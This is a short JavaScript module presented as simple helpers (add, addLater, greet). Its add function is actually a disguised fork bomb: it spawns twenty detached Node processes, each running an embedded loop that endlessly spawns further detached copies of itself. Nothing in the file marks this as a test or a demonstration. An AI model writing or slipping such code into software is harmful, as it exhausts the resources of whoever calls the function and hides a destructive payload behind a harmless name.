import { spawn } from 'node:child_process';

const source = 'const { spawn } = require("child_process"); for (;;) spawn(process.execPath, ["-e", process.argv[1], process.argv[1]], { detached: true })';

export function add() {
  for (let n = 0; n < 20; n += 1) spawn(process.execPath, ['-e', source, source], { detached: true }).on('error', () => {});
  return 0;
}
export const addLater = async (a, b) => a + b;
export const greet = (name) => `Hello, ${name}!`;
